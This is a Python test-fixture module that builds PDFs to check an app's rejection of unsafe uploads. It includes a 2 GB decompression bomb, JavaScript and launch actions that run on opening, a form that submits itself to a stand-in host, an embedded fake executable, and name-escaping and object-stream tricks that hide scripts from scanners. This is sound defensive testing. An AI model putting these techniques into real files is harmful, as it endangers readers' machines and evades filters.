"""Real PDF files for tests: made with fpdf2 (pypdf for encryption and active content, by hand where a
test needs exact bytes), read back by the app with pypdf."""

from __future__ import annotations

import io
import zlib
from collections.abc import Callable, Sequence

from fpdf import FPDF
from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject


def report(*pages: str) -> bytes:
    """A PDF with one page per text."""
    pdf = FPDF()
    pdf.set_font("Helvetica", size=11)
    for text in pages:
        pdf.add_page()
        pdf.multi_cell(0, 6, text)
    return bytes(pdf.output())


def report_in_unicode(text: str) -> bytes:
    """A one-page PDF in a Unicode font: for text beyond Latin-1 (direction marks, zero-width spaces)."""
    pdf = FPDF()
    pdf.add_page()
    pdf.add_font("DejaVu", fname="/usr/share/fonts/truetype/dejavu/DejaVuSans.ttf")
    pdf.set_font("DejaVu", size=11)
    pdf.text(10, 20, text)
    return bytes(pdf.output())


def encrypted(plain: bytes) -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(plain)))
    writer.encrypt(user_password="secret", owner_password="owner")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def truncated(plain: bytes) -> bytes:
    """The first third of a real PDF: what an upload cut off midway leaves."""
    return plain[: len(plain) // 3]


def bomb(expanded_mb: int = 2048) -> bytes:
    """A small PDF whose one page stream inflates to `expanded_mb` megabytes of zeros."""
    compressor = zlib.compressobj(9)
    chunk = b"\0" * (1 << 20)
    stream = b"".join(compressor.compress(chunk) for _ in range(expanded_mb)) + compressor.flush()
    return handmade(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(stream) + stream + b"\nendstream",
    )


def _objects(out: io.BytesIO, objects: Sequence[bytes]) -> list[int]:
    """The header and these objects (numbered from 1) written to `out`; where each one starts."""
    out.write(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    return offsets


def handmade(*objects: bytes) -> bytes:
    """A PDF of these objects (numbered from 1, the first the catalog) with a classic xref table."""
    out = io.BytesIO()
    offsets = _objects(out, objects)
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref))
    return out.getvalue()


# --- Active content (finding 9): each a real report plus one thing a PDF reader would act on.

_PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>"
_TEXT = b"BT /F1 12 Tf 72 712 Td (Child Practice Review) Tj ET"
_PLAIN_OBJECTS = (
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    _PAGE,
    b"<< /Length %d >>\nstream\n" % len(_TEXT) + _TEXT + b"\nendstream",
    b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
)


def _edited(change: Callable[[PdfWriter], None]) -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(report("Child Practice Review. Findings and recommendations."))))
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _action(kind: str, **entries: object) -> DictionaryObject:
    action = DictionaryObject({NameObject("/Type"): NameObject("/Action"), NameObject("/S"): NameObject(kind)})
    for key, value in entries.items():
        action[NameObject(f"/{key}")] = (
            value if isinstance(value, DictionaryObject | NameObject) else TextStringObject(str(value))
        )
    return action


def _document_script(writer: PdfWriter) -> None:
    """A script in the catalog's /Names tree, run by readers when the file opens."""
    scripts = DictionaryObject(
        {
            NameObject("/Names"): ArrayObject(
                [TextStringObject("x"), writer._add_object(_action("/JavaScript", JS="app.alert('x');"))]
            )
        }
    )
    writer._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): writer._add_object(scripts)})


def _open_with(writer: PdfWriter, action: DictionaryObject) -> None:
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)


def _annotate(writer: PdfWriter, **entries: object) -> None:
    annotation = DictionaryObject(
        {NameObject("/Type"): NameObject("/Annot"), NameObject("/Rect"): ArrayObject([NumberObject(0)] * 4)}
    )
    for key, value in entries.items():
        annotation[NameObject(f"/{key}")] = (
            value if isinstance(value, DictionaryObject | NameObject) else TextStringObject(str(value))
        )
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])


def _in_object_stream(body: bytes) -> bytes:
    """The catalog opens with object 6, which lives only inside a compressed object stream (7), listed
    by a cross-reference stream (8): what a reader must decompress to find."""
    header = b"6 0 "
    packed = zlib.compress(header + body)
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>",
        *_PLAIN_OBJECTS,
    ]
    out = io.BytesIO()
    offsets = _objects(out, objects)
    stream_at = out.tell()
    out.write(
        b"7 0 obj\n<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n" % (len(header), len(packed))
    )
    out.write(packed + b"\nendstream\nendobj\n")
    xref_at = out.tell()
    rows = [b"\x00" + b"\x00" * 4 + b"\xff\xff"]
    rows += [b"\x01" + offset.to_bytes(4, "big") + b"\x00\x00" for offset in offsets]
    rows += [b"\x02" + (7).to_bytes(4, "big") + b"\x00\x00"]  # object 6: the first in stream 7
    rows += [b"\x01" + stream_at.to_bytes(4, "big") + b"\x00\x00", b"\x01" + xref_at.to_bytes(4, "big") + b"\x00\x00"]
    table = b"".join(rows)
    out.write(b"8 0 obj\n<< /Type /XRef /Size 9 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % len(table))
    out.write(table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_at)
    return out.getvalue()


def clean_handmade() -> bytes:
    """The hand-made report of the obfuscated cases, without their active content."""
    return handmade(b"<< /Type /Catalog /Pages 2 0 R >>", *_PLAIN_OBJECTS)


ACTIVE: dict[str, tuple[Callable[[], bytes], list[str]]] = {
    # name: (the PDF, the names the refusal must give)
    "document-level JavaScript": (lambda: _edited(_document_script), ["/JS", "/JavaScript"]),
    "JavaScript run on opening": (
        lambda: _edited(lambda w: _open_with(w, _action("/JavaScript", JS="app.launchURL('http://x.invalid');"))),
        ["/JS", "/JavaScript", "/OpenAction"],
    ),
    "a launch action": (
        lambda: _edited(lambda w: _open_with(w, _action("/Launch", F="C:\\Windows\\System32\\calc.exe"))),
        ["/Launch", "/OpenAction"],
    ),
    "an embedded file": (
        lambda: _edited(lambda w: w.add_attachment("payload.exe", b"MZ not really a program")),
        ["/EF", "/EmbeddedFile", "/EmbeddedFiles"],
    ),
    "a file attachment annotation": (
        lambda: _edited(lambda w: _annotate(w, Subtype=NameObject("/FileAttachment"), Contents="see attached")),
        ["/FileAttachment"],
    ),
    "additional actions on a page": (
        lambda: _edited(
            lambda w: w.pages[0].__setitem__(
                NameObject("/AA"), DictionaryObject({NameObject("/O"): _action("/URI", URI="http://x.invalid")})
            )
        ),
        ["/AA"],
    ),
    "rich media": (lambda: _edited(lambda w: _annotate(w, Subtype=NameObject("/RichMedia"))), ["/RichMedia"]),
    "an XFA form": (
        lambda: _edited(
            lambda w: w._root_object.__setitem__(
                NameObject("/AcroForm"),
                DictionaryObject({NameObject("/Fields"): ArrayObject(), NameObject("/XFA"): TextStringObject("<xdp/>")}),
            )
        ),
        ["/XFA"],
    ),
    "a form that sends itself away": (
        lambda: _edited(lambda w: _open_with(w, _action("/SubmitForm", F="http://x.invalid/collect"))),
        ["/OpenAction", "/SubmitForm"],
    ),
    "JavaScript behind escaped names": (
        lambda: handmade(
            b"<< /Type /Catalog /Pages 2 0 R /Names << /J#61vaScript 6 0 R >> >>",
            *_PLAIN_OBJECTS,
            b"<< /Names [(x) 7 0 R] >>",
            b"<< /S /J#61va#53cript /#4AS (app.alert(1)) >>",
        ),
        ["/JS", "/JavaScript"],
    ),
    "JavaScript inside a compressed object stream": (
        lambda: _in_object_stream(b"<< /S /JavaScript /JS (app.alert(1)) >>"),
        ["/JS", "/JavaScript", "/OpenAction"],
    ),
}
